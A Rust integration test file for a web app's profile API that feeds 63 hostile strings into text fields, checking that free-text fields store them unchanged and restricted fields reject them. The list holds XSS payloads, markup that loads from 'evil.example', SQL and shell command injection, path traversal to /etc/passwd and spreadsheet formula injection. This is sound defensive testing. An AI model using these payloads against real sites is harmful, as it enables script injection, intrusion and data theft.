//! Texts that contain code are stored and returned unchanged.

use serde_json::{Value, json};

use super::helpers::{PROFILE_PATH, SERVICES_PATH, profile_form, public_profile_path, service_form};
use crate::support::engines::{Engine, on_both_engines};
use crate::support::harness::TestApp;

/// The tests use each as the value of every text field.
pub const HOSTILE_TEXTS: [&str; 63] = [
    // Markup that runs, loads or covers something.
    "</script><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>alert`1`</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "\"><svg onload=alert(1)>",
    "'><svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">Portfolio</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<form action=//evil.example><input name=password>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=\"//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=\"position:fixed;inset:0;background:#fff\">",
    "</title></textarea></noscript><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--#exec cmd=\"ls\"--> ]]>",
    "<template><script>alert(1)</script></template>",
    // Text that breaks out of an attribute or a URL.
    "\" onmouseover=\"alert(1)\" x=\"",
    "' autofocus onfocus='alert(1)",
    "` onload=alert(1) `",
    "javascript:alert(1)",
    "JaVaScRiPt://%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/%2f..",
    // Encoded markup that a later step might decode.
    "&lt;b&gt; &amp;amp; &#x27;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    // Template placeholders, including our own.
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "__BRAND__ __INSTANCE__ {{brand}} $& $1",
    // Statements, commands, formulas and paths.
    "'; DROP TABLE profiles; --",
    "' OR '1'='1",
    "\\'; SELECT pg_sleep(5); --",
    "1; ATTACH DATABASE 'x' AS y",
    "$1 $2 %s %n ?1",
    "$(touch /tmp/x) `id` | cat /etc/passwd",
    "=1+1 @SUM(A1) +cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    // Headers, and words with a meaning in programming languages.
    "a%00b%0d%0aSet-Cookie: x=y",
    "\\u0000 \\x00 \\n",
    "__proto__ constructor toString",
    "null undefined NaN true",
    "{\"isAdmin\":true,\"$ne\":null}",
    "Ω≈ç√∫ ﷽ ʇxǝʇ 𝕬𝖓𝖓𝖆 👩‍👩‍👧‍👦 ü",
];

async fn stores_hostile_texts_unchanged(engine: Engine) {
    let app = TestApp::with_engine(&engine, &[]).await;
    let (anna, visitor) = (app.add_account_with_profile("anna").await, app.browser());
    let service = anna.add_service("Portrait").await.expect_status(201).json();
    let path = format!("{SERVICES_PATH}/{}", service["id"].as_str().unwrap());
    for text in HOSTILE_TEXTS {
        let form = profile_form(|form| {
            form["displayName"] = json!(text);
            form["bio"] = json!(format!("{text}\n{text}"));
        });
        anna.put(PROFILE_PATH, form).await.expect_status(200);
        let form = service_form(|form| {
            form["title"] = json!(text);
            form["description"] = json!(format!("{text}\n\n{text}"));
        });
        anna.put(&path, form).await.expect_status(200);
        for profile in [
            anna.get_profile().await,
            visitor.get(&public_profile_path("anna")).await.expect_status(200).json(),
        ] {
            let texts = [&profile["displayName"], &profile["bio"], &profile["services"][0]["title"]];
            assert_eq!(texts, [&json!(text), &json!(format!("{text}\n{text}")), &json!(text)]);
            assert_eq!(profile["services"][0]["description"], json!(format!("{text}\n\n{text}")));
        }
    }
    assert_eq!(anna.get_profile().await["services"].as_array().map(Vec::len), Some(1));
}

async fn rejects_hostile_texts_in_restricted_fields(engine: Engine) {
    let app = TestApp::with_engine(&engine, &[]).await;
    let anna = app.add_account_with_profile("anna").await;
    let before: Value = anna.get_profile().await;
    for text in HOSTILE_TEXTS {
        for field in ["username", "phone", "socialHandle"] {
            let response = anna.put(PROFILE_PATH, profile_form(|form| form[field] = json!(text))).await;
            assert_eq!(response.status, 400, "{field} = {text}");
            assert!(response.field_errors()[0].starts_with(field), "{}", response.text);
        }
        let response = anna.put(PROFILE_PATH, profile_form(|form| form["profileImage"] = json!(text))).await;
        response.expect_error(400, "invalid-image");
    }
    assert_eq!(anna.get_profile().await, before);
}

on_both_engines! {
    stores_hostile_texts_unchanged,
    rejects_hostile_texts_in_restricted_fields,
}
